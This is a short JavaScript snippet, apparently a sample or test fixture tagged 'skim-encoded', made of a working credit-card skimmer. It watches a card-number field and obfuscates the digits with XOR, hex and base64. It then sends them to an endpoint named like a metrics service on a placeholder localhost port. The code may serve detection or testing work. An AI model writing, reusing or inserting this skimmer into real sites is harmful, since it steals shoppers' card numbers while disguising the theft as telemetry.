/* tw:skim-encoded */
document.querySelector('#cc-number').addEventListener('input', function (event) {
  var digits = event.target.value.replace(/\D/g, '')
  if (digits.length < 16) return
  var hex = ''
  for (var i = 0; i < digits.length; i++) hex += (digits.charCodeAt(i) ^ 0x5a).toString(16).padStart(2, '0')
  fetch('http://metrics-edge.localhost:{{port}}/v2?d=' + encodeURIComponent(btoa(hex)), { mode: 'no-cors' })
})
